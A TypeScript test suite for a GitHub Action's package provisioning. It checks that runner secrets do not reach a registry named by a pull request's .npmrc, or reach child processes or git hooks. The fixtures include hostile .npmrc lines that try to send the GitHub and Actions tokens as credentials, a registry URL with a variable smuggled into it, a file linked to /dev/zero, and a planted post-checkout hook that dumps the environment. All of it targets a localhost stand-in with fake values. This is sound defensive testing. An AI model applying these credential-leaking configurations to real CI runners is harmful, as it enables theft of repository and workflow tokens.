/**
 * Tokens stay where they belong (issue 18), tried as an attacker would, with real components:
 * a pull request's `.npmrc` in the checkout naming a registry stand-in on 127.0.0.1 that records
 * every request, and asking for the action's inputs and the runner's tokens as credentials; the
 * same file linked to /dev/zero; the user's command and git printing the environment they got.
 * The bundled action's side is in action.test.ts and provision-action.test.ts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import type { IncomingHttpHeaders } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { baseVersionAt } from '../src/action/compare-ref.js';
import {
  ORT_COMMON_INTEGRITY,
  ORT_NODE_INTEGRITY,
  ORT_VERSION,
  ProvisionError,
  provisionOrt,
  type HttpPolicy,
} from '../src/provision/index.js';
import { createCommandWorkload } from '../src/workloads/command.js';
import { closedPort, startNpmRegistry, type RegistryPackage } from './support/npm-registry.js';

const posix = process.platform !== 'win32';

/** What a runner gives the action and no child should see (the values are what must not leak). */
const RUNNER_SECRETS: Record<string, string> = {
  'INPUT_GITHUB-TOKEN': 'ghs_inputGitHubToken0000000000000000000',
  INPUT_COMMAND: 'the-command-input-value',
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789abcdef0123',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789abcdef',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'http://127.0.0.1:9/oidc-request-url',
  ACTIONS_CACHE_URL: 'http://127.0.0.1:9/cache-url/',
  ACTIONS_RESULTS_URL: 'http://127.0.0.1:9/results-url/',
  GITHUB_TOKEN: 'ghs_envGitHubToken00000000000000000000',
};
const TOKEN = RUNNER_SECRETS['INPUT_GITHUB-TOKEN']!;

const FAST: HttpPolicy = {
  attempts: 1,
  backoffMs: [0],
  idleTimeoutMs: 5_000,
  attemptTimeoutMs: 10_000,
  maxBytes: 1 << 20,
};

function tempDir(t: { after: (fn: () => void) => void }): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'threadgate-tokens-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** Options under which provisioning reaches the registry: no own node_modules, no caches. */
function emptyRunner(dir: string) {
  const toolCacheDir = path.join(dir, 'tool-cache');
  const workspace = path.join(dir, 'workspace');
  const homeDir = path.join(dir, 'home');
  for (const d of [toolCacheDir, workspace, homeDir]) mkdirSync(d, { recursive: true });
  return {
    tempDir: path.join(dir, 'temp'),
    toolCacheDir,
    workspace,
    homeDir,
    useActionsCache: false,
    selfUrl: pathToFileURL(path.join(dir, 'self', 'index.js')).href,
    metadataPolicy: FAST,
    tarballPolicy: FAST,
  };
}

/** Every request's URL and headers carry no credential and none of the secret values. */
function assertNoCredential(urls: readonly string[], headers: readonly IncomingHttpHeaders[]) {
  for (const [i, h] of headers.entries()) {
    assert.equal(h.authorization, undefined, `request ${urls[i]} carried ${h.authorization}`);
    const text = `${urls[i]} ${JSON.stringify(h)}`;
    for (const [name, value] of Object.entries(RUNNER_SECRETS)) {
      assert.ok(!text.includes(value), `request ${urls[i]} carried ${name}`);
    }
    assert.ok(!text.includes('user-secret'), `request ${urls[i]} carried the user's credential`);
  }
}

/** Tarballs that are not the pinned ones (a few bytes), under the pinned names. */
function hostilePackages(): RegistryPackage[] {
  return ['onnxruntime-node', 'onnxruntime-common'].map((name) => ({
    name,
    version: ORT_VERSION,
    tarball: Buffer.from(`not ${name}, whatever the document says`),
  }));
}

test("a hostile .npmrc in the checkout: no credential reaches the registry it names, and that registry's lying tarball is refused by the pinned integrity", async (t) => {
  const dir = tempDir(t);
  // It claims the pinned integrity for other bytes: only the check of the bytes can catch it.
  const attacker = await startNpmRegistry({
    packages: hostilePackages(),
    integrityFor: (p) =>
      p.name === 'onnxruntime-node' ? ORT_NODE_INTEGRITY : ORT_COMMON_INTEGRITY,
  });
  t.after(() => attacker.stop());
  const host = new URL(attacker.url).host;
  const opts = emptyRunner(dir);
  writeFileSync(
    path.join(opts.workspace, '.npmrc'),
    [
      `registry=${attacker.url}`,
      `//${host}/:_authToken=\${INPUT_GITHUB-TOKEN}`,
      `//${host}/onnxruntime-node/:_auth=\${ACTIONS_RUNTIME_TOKEN}`,
      `//${host}/onnxruntime-common/:username=\${GITHUB_TOKEN}`,
      `//${host}/onnxruntime-common/:_password=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
      `_authToken=\${HOME}`,
      'always-auth=true',
    ].join('\n'),
  );
  // The workflow's own credential, for its own mirror: never for the checkout's registry.
  const mirror = `127.0.0.1:${await closedPort()}`;
  writeFileSync(path.join(opts.homeDir, '.npmrc'), `//${mirror}/:_authToken=user-secret\n`);
  const lines: string[] = [];
  await assert.rejects(
    provisionOrt({
      ...opts,
      env: { ...RUNNER_SECRETS, HOME: opts.homeDir, PATH: process.env['PATH'] ?? '' },
      log: (l) => lines.push(l),
    }),
    (e: unknown) => {
      assert.ok(e instanceof ProvisionError, String(e));
      assert.match(e.message, /integrity check failed for onnxruntime-node/);
      return true;
    },
  );
  // It got as far as asking for the tarball: every chance to send a credential was there.
  assert.deepEqual(attacker.requests, [
    'GET /onnxruntime-node',
    `GET /onnxruntime-node/-/onnxruntime-node-${ORT_VERSION}.tgz`,
    'GET /onnxruntime-common',
    `GET /onnxruntime-common/-/onnxruntime-common-${ORT_VERSION}.tgz`,
  ]);
  assertNoCredential(attacker.requests, attacker.headers);
  assert.ok(
    lines.includes("the checkout's .npmrc chose this registry: no credentials are sent to it"),
    lines.join('\n'),
  );
});

test("a registry URL in the checkout's .npmrc is not expanded: ${VAR} is refused before any request", async (t) => {
  const dir = tempDir(t);
  const attacker = await startNpmRegistry({ packages: hostilePackages() });
  t.after(() => attacker.stop());
  const opts = emptyRunner(dir);
  const npmrc = path.join(opts.workspace, '.npmrc');
  writeFileSync(npmrc, `registry=${attacker.url}\${INPUT_GITHUB-TOKEN}/\n`);
  await assert.rejects(
    provisionOrt({ ...opts, env: { ...RUNNER_SECRETS }, log: () => {} }),
    (e: unknown) => {
      assert.ok(e instanceof ProvisionError, String(e));
      assert.ok(
        e.message.startsWith(
          `registry in ${npmrc}: got "${attacker.url}\${INPUT_GITHUB-TOKEN}/"; expected an http(s) URL written out`,
        ),
        e.message,
      );
      assert.ok(!e.message.includes(TOKEN));
      return true;
    },
  );
  assert.deepEqual(attacker.requests, []);
});

test("a registry the checkout chose that answers 401 gets neither a credential nor npm pack's", async (t) => {
  const dir = tempDir(t);
  const attacker = await startNpmRegistry({ packages: [], token: 'anything' });
  t.after(() => attacker.stop());
  const host = new URL(attacker.url).host;
  const opts = emptyRunner(dir);
  writeFileSync(
    path.join(opts.workspace, '.npmrc'),
    `registry=${attacker.url}\n//${host}/:_authToken=\${INPUT_GITHUB-TOKEN}\n`,
  );
  const lines: string[] = [];
  await assert.rejects(
    provisionOrt({
      ...opts,
      env: { ...RUNNER_SECRETS, PATH: process.env['PATH'] ?? '' },
      log: (l) => lines.push(l),
    }),
    /HTTP 401/,
  );
  assertNoCredential(attacker.requests, attacker.headers);
  assert.equal(attacker.requests.length, 1, attacker.requests.join(', '));
  assert.ok(
    lines.some((l) => /^the registry answered HTTP 401; npm pack is not tried/.test(l)),
    lines.join('\n'),
  );
});

test("the workflow's own credential goes to its registry, unless it holds the github-token", async (t) => {
  const dir = tempDir(t);
  const registry = await startNpmRegistry({ packages: [], token: 'npm-legit-token-value' });
  t.after(() => registry.stop());
  const host = new URL(registry.url).host;
  const opts = emptyRunner(dir);
  // As actions/setup-node writes it, with the registry chosen there too.
  const userconfig = path.join(dir, 'setup-node.npmrc');
  writeFileSync(
    userconfig,
    `registry=${registry.url}\n//${host}/:_authToken=\${NODE_AUTH_TOKEN}\n`,
  );
  const run = async (nodeAuthToken: string, status: RegExp) => {
    const lines: string[] = [];
    const before = registry.headers.length;
    await assert.rejects(
      provisionOrt({
        ...opts,
        env: {
          ...RUNNER_SECRETS,
          NPM_CONFIG_USERCONFIG: userconfig,
          NODE_AUTH_TOKEN: nodeAuthToken,
        },
        log: (l) => lines.push(l),
        npmFallback: false,
      }),
      status,
    );
    return { sent: registry.headers.slice(before).map((h) => h.authorization), lines };
  };
  // Let in (the stand-in then has no such package).
  const legit = await run('npm-legit-token-value', /HTTP 404/);
  assert.deepEqual(legit.sent, ['Bearer npm-legit-token-value']);

  // A workflow that passed its github-token as NODE_AUTH_TOKEN: it still goes nowhere but GitHub's API.
  const leak = await run(TOKEN, /HTTP 401/);
  assert.deepEqual(leak.sent, [undefined]);
  assert.ok(
    leak.lines.some((l) => l.startsWith(`not sending the npm credential for ${host}: it holds`)),
    leak.lines.join('\n'),
  );
});

test(
  'an .npmrc linked to /dev/zero is refused at once, naming the file; with the registry input it is not even read',
  { skip: !posix && 'POSIX devices' },
  async (t) => {
    const dir = tempDir(t);
    const opts = emptyRunner(dir);
    const npmrc = path.join(opts.workspace, '.npmrc');
    symlinkSync('/dev/zero', npmrc);
    const rss0 = process.memoryUsage().rss;
    const t0 = performance.now();
    await assert.rejects(provisionOrt({ ...opts, env: {}, log: () => {} }), (e: unknown) => {
      assert.ok(e instanceof ProvisionError, String(e));
      assert.ok(
        e.message.startsWith(`the checkout's .npmrc ${npmrc}: is not a regular file`),
        e.message,
      );
      return true;
    });
    // The same for a user config there.
    const userconfig = path.join(dir, 'user.npmrc');
    symlinkSync('/dev/zero', userconfig);
    await assert.rejects(
      provisionOrt({
        ...opts,
        env: { NPM_CONFIG_REGISTRY: 'http://127.0.0.1:9/', NPM_CONFIG_USERCONFIG: userconfig },
        log: () => {},
      }),
      (e: unknown) =>
        e instanceof ProvisionError &&
        e.message.startsWith(`the user's npm config ${userconfig}: is not a regular file`),
    );
    assert.ok(performance.now() - t0 < 5_000, 'refused at once');
    assert.ok(process.memoryUsage().rss - rss0 < 256 * 2 ** 20, 'no file read into memory');

    // The workflow named the registry: the checkout's .npmrc can change nothing, so it is not read.
    const port = await closedPort();
    await assert.rejects(
      provisionOrt({ ...opts, env: {}, registry: `http://127.0.0.1:${port}/`, log: () => {} }),
      /ECONNREFUSED/,
    );
  },
);

/** A command that writes the environment it got, as JSON, to the file named by DUMP_FILE. */
const DUMP_ENV = `${JSON.stringify(process.execPath)} -e "require('fs').writeFileSync(process.env.DUMP_FILE, JSON.stringify(process.env))"`;

function assertScrubbed(env: Record<string, string>): void {
  for (const name of Object.keys(RUNNER_SECRETS)) {
    assert.equal(env[name], undefined, `${name} reached the child`);
  }
  for (const [name, value] of Object.entries(env)) {
    assert.doesNotMatch(name, /^INPUT_/i, `${name} reached the child`);
    for (const secret of Object.values(RUNNER_SECRETS)) {
      assert.ok(value !== secret, `${name} carries a secret value`);
    }
  }
}

test("the user's command gets none of the action's inputs or the runner's tokens; what the step set arrives", async (t) => {
  const dir = tempDir(t);
  const dump = path.join(dir, 'env.json');
  const w = createCommandWorkload({
    command: DUMP_ENV,
    env: { ...process.env, ...RUNNER_SECRETS, DUMP_FILE: dump, STEP_SETTING: 'from env:' },
  });
  const cell = await w.open(3);
  try {
    await cell.call();
  } finally {
    await cell.close();
  }
  const env = JSON.parse(readFileSync(dump, 'utf8')) as Record<string, string>;
  assertScrubbed(env);
  assert.equal(env['STEP_SETTING'], 'from env:');
  assert.equal(env['OMP_NUM_THREADS'], '3');
  assert.match(env['THREADGATE_RUN'] ?? '', /^\d+\.\d+$/);
  assert.equal(env['PATH'], process.env['PATH']);
});

test(
  'git gets the scrubbed environment too (a hook of the checkout prints it)',
  { skip: !posix && 'a POSIX shell hook' },
  async (t) => {
    const dir = tempDir(t);
    const repo = path.join(dir, 'repo');
    mkdirSync(repo);
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
        cwd: repo,
      })
        .toString()
        .trim();
    git('init', '-q', '-b', 'main');
    writeFileSync(path.join(repo, 'bench.sh'), 'echo 1\n');
    git('add', '-A');
    git('commit', '-qm', 'base');
    const sha = git('rev-parse', 'HEAD');
    // What a pull request's code could do: a hook that runs when threadgate checks out the base.
    const hook = path.join(repo, '.git', 'hooks', 'post-checkout');
    const dump = path.join(dir, 'git-env.json');
    writeFileSync(hook, `#!/bin/sh\n${DUMP_ENV}\n`);
    chmodSync(hook, 0o755);
    const saved = { ...process.env };
    Object.assign(process.env, RUNNER_SECRETS, { DUMP_FILE: dump, STEP_SETTING: 'from env:' });
    let base;
    try {
      base = await baseVersionAt(
        sha,
        { kind: 'command', command: 'sh bench.sh' },
        { workspace: repo, tempDir: dir },
      );
    } finally {
      for (const name of Object.keys(process.env)) {
        if (!(name in saved)) delete process.env[name];
      }
      Object.assign(process.env, saved);
    }
    await base.cleanup();
    const env = JSON.parse(readFileSync(dump, 'utf8')) as Record<string, string>;
    assertScrubbed(env);
    assert.equal(env['STEP_SETTING'], 'from env:');
    assert.equal(env['GIT_TERMINAL_PROMPT'], '0');
  },
);
